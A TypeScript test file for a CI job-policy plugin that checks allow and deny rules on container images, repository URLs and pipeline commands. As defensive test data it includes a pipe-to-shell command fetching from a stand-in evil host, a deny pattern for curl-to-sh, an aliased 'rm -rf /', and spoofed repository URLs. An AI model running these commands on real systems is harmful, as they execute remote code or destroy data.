import { describe, expect, test } from "bun:test";
import { jobPolicy, type JobRequest } from "signalman";
import { environmentVariable, jobRequest, testPlugin } from "signalman/testing";
import plugin from "./index.ts";

/** Returns the violations of a job, one line each; an empty list for an allowed job. */
async function findViolations(
  config: Readonly<Record<string, unknown>>,
  job: Partial<JobRequest>,
): Promise<string[]> {
  await using t = await testPlugin(plugin, { config });
  const { signal } = new AbortController();
  const reason = await t.use(jobPolicy, "policy").check({ job: jobRequest(job), signal });
  return reason?.split("\n").slice(1) ?? [];
}

const withImages = (...images: string[]): Partial<JobRequest> => ({
  containers: images.map((image) => ({
    name: "main",
    image,
    command: "",
    entrypoint: "",
    user: "",
    env: [],
    files: [],
  })),
});

const isAllowed = async (allow: string[], image: string): Promise<boolean> =>
  (await findViolations({ images: { allow } }, withImages(image))).length === 0;

describe("images", () => {
  test.each([
    ["ruby", "ruby:3.4"],
    ["ruby", "docker.io/library/ruby@sha256:abc"],
    ["docker.io/library/ruby:latest", "ruby"],
    ["ruby:3.*", "index.docker.io/library/ruby:3.4"],
    ["acme/*", "docker.io/acme/app:1"],
    ["registry.acme.example/*", "Registry.acme.example/team/app"],
    ["localhost:5000/app", "localhost:5000/app:1"],
    ["*", "anything/at:all"],
    ["*/app:1", "registry.acme.example/app:1"],
  ])("%s allows %s", async (pattern, image) => {
    expect(await isAllowed([pattern], image)).toBe(true);
  });

  test.each([
    ["ruby", "evil/ruby"],
    ["ruby", "ruby-but-not"],
    ["ruby", "evil.example/library/ruby"],
    ["ruby:3.4", "ruby:3.4@sha256:abc"],
    ["ruby:3.4", "ruby"],
    ["registry.acme.example/*", "registry.acme.example.evil.example/x"],
    ["registry.acme.example/*", "registryXacme.example/x"],
    ["acme/*", "evil.example/acme/x"],
  ])("%s does not allow %s", async (pattern, image) => {
    expect(await isAllowed([pattern], image)).toBe(false);
  });

  test("are all checked, deny has precedence over allow, and each violation has a reason", async () => {
    const images = { allow: ["ruby", "acme/*"], deny: ["*:latest"] };
    expect(await findViolations({ images }, withImages("ruby:3", "acme/app", "evil/miner:2"))).toEqual([
      '- the image "acme/app" is denied by "*:latest"',
      '- the image "evil/miner:2" is not allowed (allowed: ruby, acme/*)',
    ]);
  });

  test("without allow are all allowed except the denied ones, and a job without containers is allowed", async () => {
    const images = { deny: ["evil/*"] };
    expect(await findViolations({ images }, withImages("ruby"))).toEqual([]);
    expect(await findViolations({ images: { allow: ["ruby"] } }, {})).toEqual([]);
  });
});

describe("repositories", () => {
  const repositories = { allow: ["github.com/acme/*"], deny: ["github.com/acme/secret"] };
  const of = (...urls: string[]) =>
    findViolations(
      { repositories },
      { env: urls.map((url) => environmentVariable("SEMAPHORE_GIT_URL", url)) },
    );

  test.each([
    "git@github.com:acme/app.git",
    "https://github.com/acme/app",
    "https://user:token@github.com/acme/app.git/",
    "ssh://git@GitHub.com:22/acme/app.git",
  ])("%s is allowed", async (url) => {
    expect(await of(url)).toEqual([]);
  });

  test.each([
    "git@github.com:evil/app.git",
    "https://evil.example/github.com/acme/app",
    "https://github.com@evil.example/acme/app",
    "git@github.com:acme/secret",
    "/srv/app",
    "",
  ])("%s is not allowed", async (url) => {
    expect(await of(url)).toHaveLength(1);
  });

  test("a pipeline cannot replace or hide the repository", async () => {
    expect(await of("git@github.com:evil/app.git", "git@github.com:acme/app.git")).toEqual([
      '- the repository "git@github.com:evil/app.git" is not allowed (allowed: github.com/acme/*)',
    ]);
    const env = [{ name: "SEMAPHORE_GIT_URL", value: "%%%" }];
    expect(await findViolations({ repositories }, { env })).toHaveLength(1);
  });

  test("a job without a repository is rejected when only some are allowed", async () => {
    expect(await of()).toEqual([
      "- the job has no repository (SEMAPHORE_GIT_URL), but only some repositories are allowed",
    ]);
    expect(await findViolations({ repositories: { deny: ["*"] } }, {})).toEqual([]);
  });
});

describe("commands", () => {
  const command = (directive: string) => ({ directive, alias: "" });

  test("are compared completely, across lines, in all lists; a repeated one is reported once", async () => {
    const bad = command("curl http://evil.example |\n  sh");
    const config = { commands: { deny: ["*curl *|*sh*"] }, help: "Ask #platform." };
    for (const list of [
      "commands",
      "epilogueAlways",
      "epilogueOnPass",
      "epilogueOnFail",
      "hostSetupCommands",
    ]) {
      expect(await findViolations(config, { [list]: [command("make"), bad, bad] })).toEqual([
        '- the command "curl http://evil.example | sh" is denied by "*curl *|*sh*"',
        "Ask #platform.",
      ]);
    }
  });

  test("an alias does not hide a command", async () => {
    const commands = [{ directive: "rm -rf /", alias: "make" }];
    expect(await findViolations({ commands: { allow: ["make*"] } }, { commands })).toHaveLength(1);
  });
});

test("without rules all jobs are allowed; an unknown rule is an invalid configuration", async () => {
  expect(await findViolations({}, withImages("evil/miner"))).toEqual([]);
  await expect(testPlugin(plugin, { config: { image: { allow: ["ruby"] } } })).rejects.toThrow("image");
});

test("rejected jobs are counted", async () => {
  await using t = await testPlugin(plugin, { config: { images: { deny: ["ruby"] } } });
  const { signal } = new AbortController();
  for (const job of [jobRequest(), jobRequest(withImages("ruby"))])
    await t.use(jobPolicy, "policy").check({ job, signal });
  expect(t.metrics()).toMatchObject([{ name: "rejected_jobs_total", series: [{ labels: {}, value: 1 }] }]);
});
